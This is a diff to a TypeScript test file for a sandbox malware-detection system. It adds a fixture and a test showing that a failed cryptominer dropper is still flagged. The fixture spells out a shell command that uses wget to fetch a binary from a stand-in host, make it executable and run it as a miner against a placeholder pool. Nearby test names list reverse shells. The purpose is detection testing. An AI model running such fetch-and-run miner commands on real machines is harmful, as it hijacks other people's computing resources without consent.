@@ -151,7 +151,21 @@ const evasion = (): DetonationResult =>
     kills: [{ pid: 2, target: 4242, signal: 'SIGKILL' }],
   });
 
+/** The download failed (the sink's answer was refused), so the miner it meant to start is not there: only the attempt shows. */
+const failedMinerDropper = (): DetonationResult =>
+  detonation({
+    processes: [
+      proc(1, 0, ['/bin/sh', '-c', 'wget -O /tmp/kworker http://dl.example.invalid/k; chmod +x /tmp/kworker; /tmp/kworker -o stratum+tcp://pool.example.test:3333 -u 44AF'], '/bin/sh', 0),
+      proc(2, 1, ['wget', '-O', '/tmp/kworker', 'http://dl.example.invalid/k'], '/bin/busybox', 10),
+    ],
+    failedExecs: [
+      { pid: 3, exe: '/bin/chmod', argv: ['chmod', '+x', '/tmp/kworker'], error: 'ENOENT', atMs: 400 },
+      { pid: 4, exe: '/tmp/kworker', argv: ['/tmp/kworker', '-o', 'stratum+tcp://pool.example.test:3333', '-u', '44AF'], error: 'ENOENT', atMs: 420 },
+    ],
+  });
+
 const positives: [string, () => DetonationResult][] = [
+  ['failed miner dropper', failedMinerDropper],
   ['miner', minerRun],
   ['reverse shell (nc -e)', reverseShellNc],
   ['reverse shell (/dev/tcp)', reverseShellDevTcp],
@@ -192,6 +206,18 @@ describe('shipped behaviour rules: what they find', () => {
     expect(sustained).toMatchObject({ severity: 'critical', title: 'mines with sustained CPU: 0.94 cores busy over 10 s' });
     expect((sustained.evidence!.events as { kind: string }[]).map((e) => e.kind)).toEqual(['process', 'connection', 'dns', 'dns']);
     expect(sustained.evidence!.description).toMatch(/half a core/);
+  });
+
+  it('a miner the sample tried to start but could not (its download failed) is still a miner, by its command line', () => {
+    const found = byRule(judge(failedMinerDropper()));
+    expect(found['behavior.cryptominer.miner-attempt']).toMatchObject({
+      category: 'cryptominer',
+      severity: 'high',
+      path: '/tmp/kworker',
+      title: 'tries to run a miner: /tmp/kworker -o stratum+tcp://pool.example.test:3333 -u 44AF (ENOENT)',
+    });
+    // the chmod that was not found is no miner
+    expect(judge(failedMinerDropper()).filter((f) => f.rule === 'behavior.cryptominer.miner-attempt')).toHaveLength(1);
   });
 
   it('the same miner on an idle CPU is a miner, but not "sustained CPU"; a renamed miner is caught by its options', () => {
